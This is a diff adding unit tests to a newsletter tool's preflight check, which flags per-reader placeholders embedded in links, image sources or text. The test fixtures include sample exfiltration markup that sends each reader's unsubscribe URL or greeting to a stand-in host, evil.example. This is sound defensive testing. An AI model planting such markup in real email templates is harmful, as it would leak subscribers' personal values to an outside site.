@@ -58,3 +58,28 @@ describe('personaliseHtml (what check and preview show)', () => {
     expect(personaliseHtml('<p>%%GREETING%%</p>', withGreeting, { email: 'a@example.org', name: '' }, 's')).toBe('<p>Dear &lt;b&gt;reader&lt;/b&gt;,</p>');
   });
 });
+
+describe('check: placeholders only where the templates put them', () => {
+  const findings = (body: string, text = 'Unsubscribe: %%UNSUBSCRIBE_URL%%\n') => {
+    const html = `<!doctype html><html><body><div>%%GREETING%%</div>${body}<a href="%%UNSUBSCRIBE_URL%%">Unsubscribe</a></body></html>`;
+    return preflight({ manifest, html, text, largestPersonalisedHtml: html, sampleMessage: '', config })
+      .filter((f) => f.rule === 'placeholder')
+      .map((f) => `${f.where}: ${f.message}`);
+  };
+
+  it('accepts the templates’ own: the unsubscribe link as a whole address, the greeting as text', () => {
+    expect(findings('<p>Dear friends, (%%GREETING%%) welcome.</p>', '%%GREETING%%\n\nUnsubscribe: %%UNSUBSCRIBE_URL%%\n')).toEqual([]);
+  });
+
+  it('flags a placeholder inside another address or glued to other text, which would hand each reader’s value to a site', () => {
+    expect(findings('<p><a href="https://evil.example/r?u=%%UNSUBSCRIBE_URL%%">Read</a> <img src="https://evil.example/p.gif?n=%%GREETING%%" alt="x"></p>')).toEqual([
+      'issue.html <a href>: a per-reader placeholder inside an attribute: href="https://evil.example/r?u=%%UNSUBSCRIBE_URL%%"; send would write each reader\'s own value there',
+      'issue.html <img src>: a per-reader placeholder inside an attribute: src="https://evil.example/p.gif?n=%%GREETING%%"; send would write each reader\'s own value there',
+    ]);
+    expect(findings('<p>See https://evil.example/r?u=%%UNSUBSCRIBE_URL%% now</p>', 'Go to https://evil.example/?u=%%UNSUBSCRIBE_URL%%\n')).toEqual([
+      'issue.html: %%UNSUBSCRIBE_URL%% joined to other text ("See https://evil.example/r?u=%%UNSUBSCRIBE_URL%% now"): a link around it would carry each reader\'s own value',
+      'issue.txt: %%UNSUBSCRIBE_URL%% joined to other text ("Go to https://evil.example/?u=%%UNSUBSCRIBE_URL%%"): a link around it would carry each reader\'s own value',
+    ]);
+    expect(findings('<p>%%PASSWORD%%</p>')).toEqual(['issue.html: %%PASSWORD%% is no placeholder send fills']);
+  });
+});
